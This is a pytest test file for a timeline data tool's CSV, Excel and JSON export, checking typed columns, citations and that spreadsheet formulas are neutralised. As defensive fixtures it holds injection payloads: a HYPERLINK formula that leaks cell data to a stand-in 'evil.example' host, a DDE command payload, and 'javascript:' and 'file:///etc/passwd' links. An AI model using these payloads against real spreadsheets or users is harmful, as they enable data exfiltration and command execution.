"""Rows leave the tool as they are in view: typed, sourced, and unable to run."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, datetime

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.factories import dataset
from timeline.export.tables import ROWS, rows
from timeline.queries.filters import Filters
from timeline.reading import load
from timeline.schema import TABLES
from timeline.schema.formulas import defused
from timeline.views.caption import Edition, caption_of
from timeline.views.view import KINDS, View

pytestmark = pytest.mark.slow

MADE = Edition(date(2026, 11, 22), "https://example.org/tl/")
BAD = '=HYPERLINK("http://evil.example/?"&A1,"open")'

EVENTS = [
    {
        "id": "report",
        "date": "1994",
        "title": BAD,
        "summary": 'Zwei\nZeilen; =1+1, “quoted” "plain"',
        "countries": "JPN; USA",
        "actors": "ishiba",
        "frameworks": "asian-nato",
        "sources": "nippon#15; diplomat#2; nippon#16",
    },
    {"id": "old", "date": "1894-08-01", "title": "War", "reported_date": "1895"},
    {"id": "talks", "date": "../2009", "title": "Talks are held"},
    {"id": "vote", "date": "2024-10-01", "title": "@vote", "note": "+1", "quote": "-x"},
]
STANCES = [
    {"id": "first", "stance": "-2", "date": "2023", "sources": "nippon#3"},
    {"id": "second", "actor": "other", "stance": "2", "date": "2024-10-01", "event": "vote"},
]
TEMPLATE = {
    "actors": [
        {"id": "ishiba", "name": "Ishiba Shigeru", "country": "JPN"},
        {"id": "other", "name": "=cmd|'/c calc'!A1"},
    ],
    "frameworks": [{"id": "asian-nato", "name": "Asian NATO", "proposition": "Be it so."}],
    "sources": [
        {"id": "diplomat", "publisher": "The Diplomat", "title": "Does it?", "date": "2024-10"},
        {
            "id": "nippon",
            "publisher": "Nippon.com",
            "author": "Kōno",
            "url": "https://example.org/a?b=1&c=ō",
            "date": "2024-11-20",
        },
        {"id": "unused", "title": "Nobody cites it"},
    ],
}


@pytest.fixture(scope="module")
def ds(tmp_path_factory):
    home = tmp_path_factory.mktemp("tables")
    return dataset(home, events=EVENTS, stances=STANCES, **TEMPLATE)


def records(ds, view):
    text = rows(ds, view, ".csv", MADE).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def book(ds, view):
    return load_workbook(io.BytesIO(rows(ds, view, ".xlsx", MADE)))


def columns(sheet):
    """Return the cells under each heading."""
    heads = [cell.value for cell in sheet[1]]
    return {head: [line[k] for line in sheet.iter_rows(2)] for k, head in enumerate(heads)}


def typed(cell):
    """Return what a cell holds; a day as such, where the workbook has a date."""
    return cell.value.date() if isinstance(cell.value, datetime) else cell.value


def asked(ds, view):
    return json.loads(rows(ds, view, ".json", MADE))


def test_csv_is_what_a_spreadsheet_reads(ds):
    written = rows(ds, View("events"), ".csv", MADE)
    assert written.startswith(b'\xef\xbb\xbf"id","date",')
    assert written.endswith(b'"\r\n')
    head, *_ = written.decode("utf-8-sig").split("\r\n")
    assert head.replace('"', "").split(",") == [
        *TABLES["events"].column_names,
        *("number", "when", "earliest", "latest", "country_names", "actor_names"),
        *("framework_names", "cited", "reported", "link", "sources_in_full", "data_version"),
    ]


def test_a_record_of_an_event(ds):
    found = {row["id"]: row for row in records(ds, View("events"))}
    assert list(found) == ["old", "report", "talks", "vote"]
    assert found["report"] == {
        "id": "report",
        "date": "1994",
        "reported_date": "",
        "label": "'" + ds.events["label"][0],
        "title": f"'{BAD}",
        "summary": 'Zwei\nZeilen; =1+1, “quoted” "plain"',
        "kind": "",
        "countries": "JPN; USA",
        "frameworks": "asian-nato",
        "actors": "ishiba",
        "importance": "",
        "sources": "nippon#15; diplomat#2; nippon#16",
        "quote": "",
        "quote_from": "",
        "note": "",
        "number": "2",
        "when": "1994",
        "earliest": "1994-01-01",
        "latest": "1994-12-31",
        "country_names": "Japan; United States",
        "actor_names": "Ishiba Shigeru",
        "framework_names": "Asian NATO",
        "cited": "Nippon.com, ¶15, ¶16; The Diplomat, ¶2",
        "reported": "",
        "link": "https://example.org/tl/?event=report",
        "sources_in_full": "Kōno, Nippon.com, 20 November 2024, ¶15, ¶16 "
        "<https://example.org/a?b=1&c=ō>; “Does it?”, The Diplomat, October 2024, ¶2",
        "data_version": ds.version,
    }
    assert (found["talks"]["earliest"], found["talks"]["latest"]) == ("", "2009-12-31")
    assert (found["old"]["when"], found["old"]["reported"]) == ("1 Aug 1894", "1895")


def test_a_record_of_a_statement(ds):
    first, second = records(ds, View("stances"))
    assert (first["stance"], first["stance_words"]) == ("-2", "opposes")
    assert (first["actor_name"], first["country_name"]) == ("Ishiba Shigeru", "Japan")
    assert (first["framework_name"], first["proposition"]) == ("Asian NATO", "Be it so.")
    assert first["counts_from"] == "2023-12-31"
    assert first["link"] == "https://example.org/tl/stances?cell=ishiba~asian-nato"
    assert (second["actor_name"], second["event_title"]) == ("'=cmd|'/c calc'!A1", "'@vote")


def test_a_record_of_a_source(ds):
    found = {row["id"]: row for row in records(ds, View("sources"))}
    assert list(found) == ["diplomat", "nippon", "unused"]
    assert (found["nippon"]["events"], found["nippon"]["statements"]) == ("1", "1")
    alone = (found["nippon"]["events_alone"], found["nippon"]["statements_alone"])
    assert alone == ("0", "1")  # its event cites the other one too
    assert found["nippon"]["link"] == "https://example.org/tl/?source=Nippon.com"
    # Its title is not known; in the data set its id stands for it.
    assert (found["nippon"]["title"], found["nippon"]["name"]) == ("", "Nippon.com")
    assert found["diplomat"]["in_full"] == "“Does it?”, The Diplomat, October 2024"


def test_numbers_stand_bare_and_text_in_quotation_marks(ds):
    written = rows(ds, View("stances"), ".csv", MADE).decode("utf-8-sig")
    assert ',-2,"2023",' in written
    typed = pd.read_csv(io.StringIO(written))
    assert typed["stance"].tolist() == [-2, 2]


def test_the_columns_of_the_data_can_be_read_again(tmp_path):
    harmless = [{"id": "a", "date": "1990~", "title": "Kōmeitō, “so”", "summary": "One\ntwo"}]
    said = [{"event": "a", "stance": "-1"}]
    ds = dataset(tmp_path, events=harmless, stances=said, **TEMPLATE)
    again = tmp_path / "again"
    again.mkdir()
    for view, table in (("events", "events"), ("stances", "stances"), ("sources", "sources")):
        text = io.BytesIO(rows(ds, View(view), ".csv", MADE))
        frame = pd.read_csv(text, dtype=str, keep_default_na=False, encoding="utf-8-sig")
        own = frame[list(TABLES[table].column_names)]
        own.to_csv(again / f"{table}.csv", index=False)
    for table in ("actors", "frameworks"):
        (again / f"{table}.csv").write_bytes(ds.files[table])
    read = load(again)
    for table in ("events", "stances", "sources"):
        pd.testing.assert_frame_equal(
            getattr(read, table).drop(columns="line"), getattr(ds, table).drop(columns="line")
        )


DANGER = st.sampled_from("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
DANGEROUS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@given(
    st.text() | st.builds("{}{}{}".format, st.sampled_from(["", " ", "\u3000"]), DANGER, st.text())
)
@example("")
@example("-2")
@example("=1+1")
@example(" =1+1")
@example("\u3000\uff1d1")
@example("'=1+1")
@example("../2016")
def test_what_would_run_is_defused_and_nothing_else_altered(text):
    safe = defused(text)
    assert not safe.startswith(DANGEROUS)
    assert not safe.lstrip().startswith(DANGEROUS)
    plain = text.lstrip("'")  # which the reading takes for a guard, so that it gets one more
    risky = plain.startswith(DANGEROUS) or plain.lstrip().startswith(DANGEROUS)
    assert safe == (f"'{text}" if risky else text)


def test_workbook_has_typed_cells_and_links(ds):
    found = book(ds, View("events"))
    assert found.sheetnames == ["Events", "Sources", "About"]
    sheet = found["Events"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("C2", "A1:AA5")
    assert all(cell.font.bold for cell in sheet[1])
    cells = columns(sheet)
    assert [cell.value for cell in cells["No."]] == [1, 2, 3, 4]
    assert [cell.value for cell in cells["Date (EDTF)"]] == [
        "1894-08-01",
        "1994",
        "../2009",
        "2024-10-01",
    ]
    # Excel has no days before 1900, so the first is text.
    assert [typed(cell) for cell in cells["Earliest"]] == [
        "1894-08-01",
        date(1994, 1, 1),
        None,
        date(2024, 10, 1),
    ]
    assert cells["Earliest"][3].number_format == "d mmm yyyy"
    assert cells["Link"][1].hyperlink.target == "https://example.org/tl/?event=report"
    address = columns(found["Sources"])["Address"]
    assert [cell.hyperlink and cell.hyperlink.target for cell in address] == [
        None,
        "https://example.org/a?b=1&c=ō",
    ]


def test_no_cell_of_a_workbook_is_a_formula(ds):
    for kind in KINDS:
        for sheet in book(ds, View(kind, title=BAD)):
            types = {cell.data_type for line in sheet.iter_rows() for cell in line}
            assert types <= {"s", "n", "d"}
    cell = columns(book(ds, View("events"))["Events"])["Event"][1]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (BAD, "s", True)


@pytest.mark.parametrize("url", ["javascript:alert(1)", "file:///etc/passwd", "http://[a", "x"])
def test_only_the_web_is_linked(tmp_path, url):
    ds = dataset(tmp_path, events=[{"sources": "a#1"}], sources=[{"id": "a"}])
    ds.sources.loc[0, "url"] = url
    cell = columns(book(ds, View("sources"))["Sources"])["Address"][0]
    assert (cell.value, cell.hyperlink) == (url, None)


def test_what_a_cell_cannot_hold(tmp_path):
    ds = dataset(tmp_path, events=[{}, {}, {}, {}])
    ds.events["summary"] = ["a\x07b\ufffe", "_x0041_", "ō" * 40_000, "\x00" * 20_000]
    control, literal, long, worst = (
        cell.value for cell in columns(book(ds, View("events"))["Events"])["Summary"]
    )
    # As ECMA-376 writes them, which Excel and LibreOffice read back.
    assert (control, literal) == ("a_x0007_b_xFFFE_", "_x005F_x0041_")
    assert len(long) == 32_767
    assert long.endswith("ō… [cut: longer than a cell can be; whole in the CSV]")
    assert len(worst) <= 32_767
    assert worst.startswith("_x0000__x0000_")


def test_the_stances_have_the_colours_of_the_matrix(ds):
    cells = columns(book(ds, View("stances"))["Statements"])
    assert [cell.value for cell in cells["Stance, −2 to 2"]] == [-2, 2]
    fills = [cell.fill.fgColor.rgb for cell in cells["Stance"]]
    assert len({*fills, "00000000"}) == 3


def test_text_that_runs_from_the_right_does_so_in_its_cell(tmp_path):
    ds = dataset(tmp_path, events=[{"title": "توقيع معاهدة السلام"}, {"title": "Treaty (السلام)"}])
    cells = columns(book(ds, View("events"))["Events"])["Event"]
    assert {cell.value: cell.alignment.readingOrder for cell in cells} == {
        "توقيع معاهدة السلام": 2,
        "Treaty (السلام)": 0,
    }


def test_workbook_says_what_it_is(ds):
    view = View("events", Filters(countries=("JPN",)), title="What Japan did", note="Draft")
    sheet = book(ds, view)["About"]
    lines = [[typed(cell) for cell in line][:2] for line in sheet.iter_rows(1, 9)]
    assert lines == [
        ["What Japan did", None],
        [None, None],
        ["In view", "1 of 4 events · Japan"],
        ["Note", "Draft"],
        ["Day", caption_of(ds, view, MADE).day],
        ["Data", f"data, data {ds.version}, exported 22 November 2026"],
        ["Exported", date(2026, 11, 22)],
        [
            "The same view",
            "https://example.org/tl/?country=Japan&headline=What+Japan+did",
        ],
        [None, None],
    ]
    named = {cell.value for cell in sheet["B"]}
    assert named >= {*TABLES["events"].column_names, *TABLES["sources"].column_names, "number"}


def test_json_is_typed(ds):
    found = asked(ds, View("events", Filters(frameworks=("asian-nato",))))
    assert found["about"]["sentence"] == "1 of 4 events · Asian NATO"
    assert found["about"]["exported"] == "2026-11-22"
    assert set(found["about"]["columns"]) == set(found["rows"][0])
    row = found["rows"][0]
    assert (row["number"], row["countries"], row["title"]) == (2, ["JPN", "USA"], BAD)
    assert row["country_names"] == ["Japan", "United States"]
    assert (row["earliest"], row["latest"]) == ("1994-01-01", "1994-12-31")
    assert row["sources"][0] == {
        "source": "nippon",
        "paragraph": 15,
        "text": "Kōno, Nippon.com, 20 November 2024, ¶15.",
        "url": "https://example.org/a?b=1&c=ō",
    }
    talks = next(row for row in asked(ds, View())["rows"] if row["id"] == "talks")
    assert (talks["earliest"], talks["sources"]) == (None, [])
    assert asked(ds, View("stances"))["rows"][0]["stance"] == -2


def test_a_matrix_lists_what_counts_by_its_day(ds):
    ids = [row["id"] for row in records(ds, View("matrix", asof=date(2024, 9, 30)))]
    assert ids == ["first"]
    assert len(records(ds, View("matrix"))) == 2
    said = asked(ds, View("matrix", asof=date(2024, 9, 30)))["about"]
    assert (said["sentence"], said["day"]) == ("1 of 2 statements", "As of 30 September 2024")


@pytest.mark.parametrize(
    ("who", "on", "ids"),
    [
        ("other", "", ["second"]),
        ("JPN", "", ["first"]),
        ("ishiba", "asian-nato", ["first"]),
    ],
)
def test_an_actor_or_country_lists_its_own_voices(ds, who, on, ids):
    view = View("actor", who=who, on=on)
    assert [row["id"] for row in records(ds, view)] == ids
    assert asked(ds, view)["about"]["sentence"].startswith("1 of 2 statements")


def test_a_comparison_lists_the_events_that_it_shows_under_their_numbers(ds):
    found = records(ds, View("compare", then="report", now="vote", months=12))
    assert {row["id"] for row in found} == {"report", "vote"}
    assert [row["number"] for row in found] == ["2", "4"]


def test_filtered_sources_are_those_that_rows_in_view_cite(ds):
    found = records(ds, View("sources", Filters(actors=("ishiba",))))
    assert [row["id"] for row in found] == ["diplomat", "nippon"]


@pytest.mark.parametrize("suffix", ROWS)
@pytest.mark.parametrize("kind", KINDS)
def test_same_input_same_bytes(ds, kind, suffix):
    view = View(kind)
    assert rows(ds, view, suffix, MADE) == rows(ds, view, suffix, MADE)


def test_every_time_in_a_workbook_is_fixed(ds):
    written = rows(ds, View("events"), ".xlsx", MADE)
    with zipfile.ZipFile(io.BytesIO(written)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(2026, 11, 22, 12, 0, 0)}
    told = load_workbook(io.BytesIO(written)).properties
    assert {told.created.isoformat(), told.modified.isoformat()} == {"2026-11-22T12:00:00"}


@pytest.mark.parametrize("suffix", ROWS)
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("tables", [{"events": [{}]}, {"stances": [{}]}], ids=["events", "stances"])
def test_the_smallest_data_sets_can_be_written(tmp_path, tables, kind, suffix):
    small = dataset(tmp_path, **tables)
    assert rows(small, View(kind), suffix, MADE)
    assert rows(small, View(kind, Filters(text="nothing has this")), suffix, MADE)


def test_another_suffix_is_refused(ds):
    with pytest.raises(ValueError, match=r'^suffix "doc" is none of csv, xlsx, json$'):
        rows(ds, View("events"), ".doc", MADE)
